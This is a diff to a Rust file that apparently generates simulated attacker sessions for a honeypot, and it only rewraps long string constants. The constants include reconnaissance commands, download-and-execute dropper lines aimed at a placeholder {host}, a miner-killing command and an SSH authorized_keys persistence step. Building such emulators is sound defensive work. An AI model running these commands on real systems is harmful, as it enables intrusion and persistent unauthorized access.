@@ -242,9 +242,8 @@ pub const ROBOT_SCRIPTS: &[&[&str]] = &[
     &["cat /proc/cpuinfo | grep 'model name' | sort -u; free -m; df -h /"],
     &["lspci | grep -i -E 'vga|3d|nvidia'; nproc --all"],
     &["hostname; echo ---; uname -a; echo ---; id; echo ---; ls -la /; ps aux | head -20; ss -tlnp | head; tail -5 ~/.bash_history"],
-    &[
-        "export LC_ALL=C; arch=$(uname -m); os=$(. /etc/os-release 2>/dev/null; echo \"$ID $VERSION_ID\"); mem=$(awk '/MemTotal/{print $2}' /proc/meminfo); echo \"$arch|$os|$mem\"",
-    ],
+    &["export LC_ALL=C; arch=$(uname -m); os=$(. /etc/os-release 2>/dev/null; echo \"$ID $VERSION_ID\"); mem=$(awk '/MemTotal/{print \
+         $2}' /proc/meminfo); echo \"$arch|$os|$mem\""],
     &["/system resource print", "ip addr show", "cat /etc/issue", "pgrep -fa miner", "ls -la ~/.config ~/.mozilla", "getent hosts {host}"],
     &["for d in /tmp /var/tmp /dev/shm \"$HOME\"; do t=\"$d/.p$$\"; echo ok > \"$t\" 2>/dev/null && rm -f \"$t\" && echo \"$d\"; done"],
     &["ps -ef | grep -v grep | grep -E 'xmrig|kinsing|kdevtmpfsi' | awk '{print $2}' | xargs -r kill -9"],
@@ -255,7 +254,8 @@ pub const ROBOT_SCRIPTS: &[&[&str]] = &[
 
 /// Commands that fetch something; followed by downloads or uploads of `{file}` from `{host}`.
 pub const DROPPER_SCRIPTS: &[&str] = &[
-    "cd /tmp || cd /var/tmp || cd /dev/shm; wget -q http://{host}/{file} || curl -fsO http://{host}/{file}; chmod +x {file}; ./{file}; rm -f {file}",
+    "cd /tmp || cd /var/tmp || cd /dev/shm; wget -q http://{host}/{file} || curl -fsO http://{host}/{file}; chmod +x {file}; ./{file}; \
+     rm -f {file}",
     "curl -fsSL http://{host}/bins/{file} | sh",
     "cd /tmp; for a in x86_64 arm7 mips mpsl; do wget http://{host}/d/{file}.$a -O .{file}; chmod 777 .{file}; ./.{file} ssh.$a; done",
     "nohup bash -c \"(wget -qO- http://{host}:8080/{file} || busybox wget -qO- http://{host}:8080/{file}) | bash\" >/dev/null 2>&1 &",
@@ -266,7 +266,9 @@ pub const DROPPER_SCRIPTS: &[&str] = &[
 /// The two-step key installation every honeypot sees.
 pub const KEY_INSTALL_UNLOCK: &str = "cd ~ && chattr -R -ia .ssh 2>/dev/null; lsattr -d .ssh";
 pub const KEY_INSTALL_UNKNOWN: &str = "lsattr -d .ssh";
-pub const KEY_INSTALL: &str = "mkdir -p ~/.ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7simulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkey0000= ops@example\" > ~/.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~";
+pub const KEY_INSTALL: &str = "mkdir -p ~/.ssh && echo \"ssh-rsa \
+    AAAAB3NzaC1yc2EAAAADAQABAAABgQC7simulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimu\
+    latedkey0000= ops@example\" > ~/.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~";
 
 /// What people type when they believe they are in.
 pub const TYPED: &[&str] = &[
@@ -342,7 +344,8 @@ pub const TUNNELS: &[(&str, u16, &str)] = &[
     (
         "www.example.org",
         443,
-        "b'\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\\xd2\\x8b\\x11\\x0fN\\xa1(~\\x9e\\x07|G\\x81\\xdb\\x1e\\x13\\x02\\x13\\x03\\x13\\x01\\xc0,\\xc00\\x00\\x9f'",
+        "b'\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\\xd2\\x8b\\x11\\x0fN\\xa1(~\\x9e\\x07|\
+         G\\x81\\xdb\\x1e\\x13\\x02\\x13\\x03\\x13\\x01\\xc0,\\xc00\\x00\\x9f'",
     ),
     ("smtp.example.net", 25, "b'EHLO mail.example.org\\r\\n'"),
     ("203.0.113.25", 587, "b'EHLO [192.0.2.77]\\r\\n'"),
